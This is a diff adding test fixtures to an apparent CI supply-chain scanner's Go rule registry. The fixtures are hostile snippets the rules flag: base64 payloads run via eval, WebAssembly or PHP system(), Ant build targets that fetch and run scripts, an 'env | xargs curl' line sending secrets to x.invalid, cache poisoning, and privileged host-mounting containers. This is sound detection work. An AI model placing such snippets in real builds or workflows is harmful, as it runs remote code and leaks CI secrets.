@@ -139,6 +139,20 @@ var registry = []Rule{
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: pwsh\n        run: |\n          $c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:P))\n          Invoke-Expression $c", 0, false},
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const s = Buffer.from(process.env.P, 'base64').toString()\n            require('child_process').execSync(s)", 0, false},
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: pwsh\n        run: |\n          $bytes = [Convert]::FromBase64String($env:SIGNING_CERT)\n          [IO.File]::WriteAllBytes(\"cert.pfx\", $bytes)\n          Import-PfxCertificate -FilePath cert.pfx -CertStoreLocation Cert:\\CurrentUser\\My", 0, true},
+			// Decoded text handed on by xargs, install /dev/stdin, mapfile.
+			{"x.sh", "echo $P | base64 -d | xargs -I{} sh -c '{}'", 0, false},
+			{"x.sh", "echo $P | base64 -d | install -m 755 /dev/stdin /usr/local/bin/t && t", 0, false},
+			{"x.sh", "mapfile -t L < <(echo \"$P\" | base64 -d)\nfor l in \"${L[@]}\"; do eval \"$l\"; done", 2, false},
+			// WebAssembly and a data: URL import are code; PHP's call_user_func('system').
+			{"x.js", "WebAssembly.instantiate(Buffer.from(P, 'base64')).then(m => m.instance.exports.run())", 0, false},
+			{"x.mjs", "await import(`data:text/javascript;base64,${P}`)", 0, false},
+			{"x.php", "<?php call_user_func('system', base64_decode($p));", 0, false},
+			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: python\n        run: |\n          import base64, subprocess\n          c = base64.b64decode(\"Y3VybA==\").decode()\n          subprocess.run(c, shell=True)", 0, false},
+			// Decoded bytes written to a literal path, then started by it.
+			{"x.go", "package main\nimport (\"encoding/base64\"; \"os\"; \"os/exec\")\nfunc main() {\n\tb, _ := base64.StdEncoding.DecodeString(P)\n\tos.WriteFile(\"/tmp/x\", b, 0o755)\n\texec.Command(\"/tmp/x\").Run()\n}", 6, false},
+			{"x.py", "import base64, subprocess, os\nb = base64.b64decode(P)\nopen(\"/tmp/x\", \"wb\").write(b)\nos.chmod(\"/tmp/x\", 0o755)\nsubprocess.run([\"/tmp/x\"])", 0, false},
+			{"x.js", "const fs = require('fs'), cp = require('child_process')\nfs.writeFileSync('/tmp/x', Buffer.from(P, 'base64'), { mode: 0o755 })\ncp.execFileSync('/tmp/x')", 0, false},
+			{"x.py", "import base64, subprocess\nb = base64.b64decode(CERT)\nopen(\"cert.pem\", \"wb\").write(b)\nsubprocess.run([\"openssl\", \"x509\", \"-in\", \"cert.pem\", \"-noout\"])", 0, true},
 			// A shell's argument list with -c, in any language.
 			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
@@ -240,6 +254,9 @@ var registry = []Rule{
 		{"flake.nix", "{\n  devShells.default = pkgs.mkShell {\n    shellHook = ''\n      curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n      sh /tmp/b.sh\n    '';\n  };\n}", 5, false},
 		{"default.nix", "stdenv.mkDerivation {\n  installPhase = ''\n    runHook preInstall\n    install -Dm755 x $out/bin/x\n    wrapProgram $out/bin/x --prefix PATH : ${lib.makeBinPath [ git curl ]}\n  '';\n}", 0, true},
 		{"Acme.podspec", "Pod::Spec.new do |s|\n  s.prepare_command = <<-CMD\n    curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n    sh /tmp/b.sh\n  CMD\nend", 4, false},
+		// Ant's <get> fetches and its <exec> runs, in build.xml or a POM's antrun target.
+		{"build.xml", "<project>\n  <target name=\"gen\">\n    <get src=\"https://x.invalid/g.sh\" dest=\"${build.dir}/g.sh\"/>\n    <exec executable=\"sh\" failonerror=\"false\">\n      <arg value=\"${build.dir}/g.sh\"/>\n    </exec>\n  </target>\n</project>", 5, false},
+		{"pom.xml", "<target>\n  <exec executable=\"git\" outputproperty=\"git.rev\">\n    <arg value=\"rev-parse\"/>\n    <arg value=\"HEAD\"/>\n  </exec>\n  <exec executable=\"npm\" dir=\"${basedir}/ui\"><arg line=\"run build\"/></exec>\n</target>", 0, true},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
@@ -335,6 +352,8 @@ var registry = []Rule{
 			{".cargo/config.toml", "[build]\nrustc-wrapper = \"sccache\"", 2, true},
 			{".npmrc", "node-options=--require ./scripts/hook.js", 0, false},
 			{".npmrc", "script-shell=./tools/sh", 0, false},
+			{".npmrc", "engine-strict=true\nscript-shell=./tools/ci-shell.sh", 2, false},
+			{".npmrc", "script-shell=/bin/bash", 0, true},
 			{".npmrc", "engine-strict=true", 0, true},
 		}},
 	{"powershell-hidden", KindExecute, High, "starts PowerShell with a hidden window to run a command",
@@ -369,6 +388,7 @@ var registry = []Rule{
 	{"secret-send", KindCredential, High, "sends secrets or the environment over the network",
 		"the runner's tokens and secrets leave for a machine outside", []Case{
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
+			{"x.sh", "env | xargs -I{} curl https://x.invalid/{}", 0, false},
 			// Mail carries what it reads as well as a socket does.
 			{"x.sh", "env | mail -s report ops@x.invalid", 0, false},
 			{"x.sh", `swaks --to a@x.invalid --body "$(env)"`, 0, false},
@@ -645,12 +665,21 @@ var registry = []Rule{
 	{"runner-action-cache", KindRunner, High, "writes into the runner's action or tool cache",
 		"a later step, or a later job on the same runner, runs the changed code in place of the action it names", []Case{
 			{"x.sh", "cp evil.js /home/runner/work/_actions/actions/checkout/v4/dist/index.js", 0, false},
+			// A program the later steps run by name, written over where the
+			// shell finds it; a link or copy from it to elsewhere is not.
+			{".github/actions/setup/action.yml", "runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n        GIT_DIR=$(dirname \"$(command -v git)\")\n        curl -fsSL https://x.invalid/g -o \"$GIT_DIR/git\"", 7, false},
+			{"ci/setup.sh", "sudo cp ./wrapper.sh \"$(which python3)\"", 1, false},
+			{"ci/setup.sh", "PY=$(command -v python3)\nln -sf \"$PY\" ~/.local/bin/python\n\"$PY\" -m pip install -r requirements.txt", 0, true},
 			{"x.sh", `echo x > "$RUNNER_WORKSPACE/../_actions/actions/setup-node/v4/dist/setup/index.js"`, 0, false},
 		}},
 	{"gha-cache-poisoning", KindRunner, High, "saves a cache from code a pull request controls",
 		"a privileged workflow that restores the cache then runs what the pull request put in it", []Case{
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 9, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 6, true},
+			// A key the pull request names picks the entry; a hunk that does
+			// not show the trigger may be under one that saves into the
+			// default branch's scope.
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -8,4 +8,4 @@ jobs:\n       - uses: actions/cache@v4\n         with:\n           path: ~/.cargo\n-          key: cargo-${{ hashFiles('Cargo.lock') }}\n+          key: cargo-${{ github.event.pull_request.title }}-${{ hashFiles('Cargo.lock') }}\n", 11, false},
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -8,2 +8,7 @@ jobs:\n       - run: npm ci\n+      - run: echo 'module.exports = 1' >> node_modules/left-pad/index.js\n+      - uses: actions/cache/save@v4\n+        with:\n+          path: node_modules\n+          key: deps-${{ hashFiles('package-lock.json') }}\n       - run: npm test\n", 10, false},
 		}},
 	{"dependency-tamper", KindBuildFile, Medium, "writes into an installed dependency's files",
@@ -676,6 +705,9 @@ var registry = []Rule{
 			// request started; a hunk that does not show the trigger.
 			{".github/workflows/a.yml", "on: repository_dispatch\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: ${{ github.event.client_payload.repository }}\n          ref: ${{ github.event.client_payload.ref }}\n      - run: ./gradlew publish\n        env:\n          SIGNING_KEY: ${{ secrets.SIGNING_KEY }}", 10, false},
 			{".github/workflows/a.yml", "on:\n  check_suite:\n    types: [completed]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.check_suite.head_sha }}\n      - run: cargo build --release", 11, false},
+			// A dispatch's commit built on a self-hosted runner: the machine
+			// keeps what it leaves.
+			{".github/workflows/a.yml", "on:\n  repository_dispatch:\n    types: [e2e]\njobs:\n  b:\n    runs-on: [self-hosted, gpu]\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.client_payload.ref }}\n      - run: make e2e", 11, false},
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -6,3 +6,6 @@ jobs:\n     steps:\n       - uses: actions/checkout@v4\n-      - run: pip install .\n+      - run: |\n+          git fetch origin ${{ github.event.client_payload.sha }}\n+          git checkout FETCH_HEAD\n+          pip install .\n", 11, false},
 			// The command a maintainer's comment relays (slash-command
 			// dispatch) checks out a pull request of this repository: the
@@ -744,6 +776,16 @@ var registry = []Rule{
 	{"ci-secrets", KindCredential, High, "reads CI secrets",
 		"it hands the project's secrets to what the change runs", []Case{
 			{"x.js", "const k = `${{ secrets.API_KEY }}`", 0, false},
+		}},
+	{"runner-host-access", KindRunner, High, "starts a container with the self-hosted runner's host in its hands (privileged, the host's root, processes or Docker socket)",
+		"a self-hosted runner is a machine that keeps what a job leaves: a container given the host's root file system, its processes or its Docker daemon can change the runner itself, and the jobs after this one, other workflows' included, run on what it left", []Case{
+			{".github/workflows/a.yml", "jobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: |\n          docker run -d --privileged --pid=host \\\n            -v /:/host ghcr.io/x/svc:pr-1", 6, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: docker run --rm --privileged -v /var/run/docker.sock:/var/run/docker.sock x/tool:1", 5, false},
+			// One grant alone on a self-hosted runner (QEMU's binfmt
+			// handlers, a scanner reading the daemon), or any of them on a
+			// runner GitHub discards after the job.
+			{".github/workflows/a.yml", "jobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: docker run --rm --privileged tonistiigi/binfmt --install all\n      - run: docker run --rm -v /var/run/docker.sock:/var/run/docker.sock aquasec/trivy image x", 0, true},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker run --privileged --pid=host -v /:/host alpine chroot /host true", 0, true},
 		}},
 	{"runner-orphan", KindExecute, High, "starts a process the runner will not stop at the job's end (RUNNER_TRACKING_ID changed)",
 		"the runner kills what a job leaves running by this variable; a process started without it outlives the job, watches the later steps' secrets and, on a self-hosted runner, the next jobs", []Case{
